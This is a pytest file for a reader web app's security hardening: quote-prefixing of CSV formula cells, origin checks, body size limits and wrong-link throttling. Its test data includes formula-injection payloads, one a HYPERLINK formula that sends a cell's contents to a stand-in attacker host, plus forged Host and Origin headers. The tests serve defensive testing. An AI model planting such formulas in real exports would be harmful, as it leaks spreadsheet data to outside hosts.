"""The reader app's hardening: formula cells in the CSV export, the allowed origin, body size, wrong-link throttle."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from reader_run import make_run
from typer.testing import CliRunner

from maskaudit.cli import app as cli_app
from maskaudit.errors import MaskauditError
from maskaudit.reader import db
from maskaudit.reader.app import MAX_BODY, Throttle, create_app, origins_for

BASE = "http://testserver"
MIB = 1 << 20


@pytest.fixture(scope="module")
def study(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    run = make_run(tmp_path_factory.mktemp("security") / "run")
    result = CliRunner().invoke(cli_app, ["reader", "create", str(run), "--readers", "alice,bob"])
    assert result.exit_code == 0, result.output
    return run, dict(re.findall(r"^(\w+)\t(http\S+)$", result.output, flags=re.M))


def _path(link: str) -> str:
    return "/" + link.split("/", 3)[3]


def _client(app, link: str | None = None, address: str = "testclient") -> TestClient:
    client = TestClient(app, base_url=BASE, client=(address, 50000))
    if link is not None:
        assert client.get(_path(link)).status_code == 200
    return client


def _first_case(client: TestClient) -> tuple[str, str]:
    case = re.findall(r'href="/case/([A-Za-z0-9_-]+)"', client.get("/done").text)[0]
    csrf = re.search(r'name="csrf" value="([^"]+)"', client.get(f"/case/{case}").text).group(1)
    return case, csrf


# ------------------------------------------------------------------------------------------ CSV export


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1:A2)",
                                  "\tindented", "\rreturn", "＝1+1"])
def test_a_formula_cell_is_prefixed_with_a_quote(text: str) -> None:
    assert db.csv_cell(text) == "'" + text


def test_plain_cells_are_written_as_they_are() -> None:
    for value in ("rib fracture?", "a=b", "", 3, None, "'quoted"):
        assert db.csv_cell(value) == value


def test_the_export_neutralises_a_readers_formula(study) -> None:
    run, links = study
    app = create_app(run, origins=[BASE])
    alice = _client(app, links["alice"])
    case, csrf = _first_case(alice)
    comment = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    response = alice.post(f"/case/{case}", data={"csrf": csrf, "answer_0": "present", "confidence_0": "3",
                                                 "comment": comment, "go": "stay"}, follow_redirects=False)
    assert response.status_code == 303
    admin = _client(app, links["admin"])
    rows = list(csv.DictReader(io.StringIO(admin.get("/admin/export.csv").text)))
    mine = [r for r in rows if r["reader"] == "alice" and r["comment"]]
    assert [r["comment"] for r in mine] == ["'" + comment]
    assert mine[0]["answer"] == "present" and mine[0]["confidence"] == "3"


# ------------------------------------------------------------------------------------------ origin


def test_the_allowed_origin_comes_from_the_configuration_not_the_host_header(study) -> None:
    run, links = study
    app = create_app(run, origins=origins_for("127.0.0.1", 8000, "https://reader.example.org/"))
    alice = _client(app, links["alice"])
    case, csrf = _first_case(alice)
    good = {"csrf": csrf, "answer_0": "absent", "confidence_0": "2", "go": "stay"}
    forged = {"Host": "evil.example", "Origin": "http://evil.example"}  # a matching pair: refused all the same
    assert alice.post(f"/case/{case}", data=good, headers=forged, follow_redirects=False).status_code == 403
    for origin in ("https://reader.example.org", "http://127.0.0.1:8000", "http://localhost:8000"):
        response = alice.post(f"/case/{case}", data=good, headers={"Host": "evil.example", "Origin": origin},
                              follow_redirects=False)
        assert response.status_code == 303, origin
    assert alice.post(f"/case/{case}", data=good, headers={"Origin": BASE}).status_code == 403  # not configured


def test_origins_for_the_listening_address_and_the_base_url() -> None:
    assert origins_for() == ["http://127.0.0.1:8000", "http://localhost:8000", "http://[::1]:8000"]
    assert origins_for("10.0.0.5", 80) == ["http://10.0.0.5"]
    assert origins_for("0.0.0.0", 8000, "https://Reader.Example.org:443/study") == ["https://reader.example.org"]
    with pytest.raises(MaskauditError, match="listens on every address"):
        origins_for("0.0.0.0", 8000)
    with pytest.raises(MaskauditError, match="expected an http"):
        origins_for("127.0.0.1", 8000, "reader.example.org")
    result = CliRunner().invoke(cli_app, ["reader", "serve", "/nonexistent", "--host", "0.0.0.0"])
    assert result.exit_code == 1 and "give --base-url" in result.output


# ------------------------------------------------------------------------------------------ body size


class Recorder:
    """A request body of ``total`` bytes in 1 MiB chunks that counts what was taken of it."""

    def __init__(self, total: int) -> None:
        self.total, self.consumed = total, 0

    def __iter__(self):
        while self.consumed < self.total:
            self.consumed += MIB
            yield b"x" * MIB


def test_a_40_mib_post_to_logout_is_refused_unread(study) -> None:
    run, _ = study
    anonymous = _client(create_app(run, origins=[BASE]))
    body = Recorder(40 * MIB)
    response = anonymous.post("/logout", content=body, headers={"Content-Length": str(40 * MIB),
                                                               "Content-Type": "application/x-www-form-urlencoded"})
    assert response.status_code == 413 and response.text == "This submission is too large."
    assert body.consumed == 0
    assert response.headers["x-frame-options"] == "DENY"
    # refused before authentication: a case's POST without a session is 413, not 401
    assert anonymous.post("/case/" + "A" * 22, content=b"x" * (MAX_BODY + 1)).status_code == 413
    assert anonymous.post("/logout", content=b"csrf=x").status_code == 401  # a small one goes on to the session


def test_a_streamed_body_is_refused_once_it_passes_the_limit(study) -> None:
    """Without a Content-Length (chunked), the bytes are counted as they arrive: reading stops past the limit."""
    run, _ = study
    app = create_app(run, origins=[BASE])
    chunks, sent = 40 * 16, []  # 40 MiB in 64 KiB chunks

    async def receive() -> dict:
        sent.append(1)
        return {"type": "http.request", "body": b"x" * (64 * 1024), "more_body": len(sent) < chunks}

    messages: list[dict] = []

    async def send(message: dict) -> None:
        messages.append(message)

    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": "/logout", "raw_path": b"/logout", "root_path": "", "query_string": b"",
             "headers": [(b"host", b"testserver"), (b"content-type", b"application/x-www-form-urlencoded"),
                         (b"transfer-encoding", b"chunked")],
             "client": ("testclient", 50000), "server": ("testserver", 80)}
    asyncio.run(app(scope, receive, send))
    assert messages[0]["type"] == "http.response.start" and messages[0]["status"] == 413
    assert (b"x-frame-options", b"DENY") in messages[0]["headers"]
    assert len(sent) == 2  # 64 KiB is the limit: the second chunk passes it, and nothing more is read


# ------------------------------------------------------------------------------------------ throttle


def test_wrong_links_are_throttled_per_address(study) -> None:
    run, links = study
    app = create_app(run, origins=[BASE])
    guesser, bob = _client(app, address="10.0.0.1"), _client(app, address="10.0.0.2")
    wrong = "/r/" + "x" * 43
    assert [guesser.get(wrong).status_code for _ in range(10)] == [403] * 10
    eleventh = guesser.get(wrong)
    assert eleventh.status_code == 429 and eleventh.headers["retry-after"] == "60"
    assert "Too many wrong links" in eleventh.text
    assert guesser.get(_path(links["alice"])).status_code == 429  # even a right link, from that address
    assert guesser.get(_path(links["admin"])).status_code == 429  # and the admin's
    assert bob.get(_path(links["bob"])).status_code == 200  # another address is not concerned
    assert bob.get(_path(links["admin"])).status_code == 200


def test_the_throttle_forgets_and_stays_small() -> None:
    now = [0.0]
    throttle = Throttle(failures=3, window=60.0, block=60.0, clients=4, clock=lambda: now[0])
    for at in (0.0, 30.0, 61.0):  # never 3 within a minute
        now[0] = at
        throttle.failed("a")
    assert throttle.retry_after("a") == 0
    now[0] = 62.0
    throttle.failed("a")  # 30, 61, 62: three within a minute
    assert throttle.retry_after("a") == 60.0
    now[0] = 122.0
    assert throttle.retry_after("a") == 0  # the minute is over
    for k in range(1000):
        throttle.failed(f"10.0.{k // 256}.{k % 256}")
    assert len(throttle._seen) <= 4
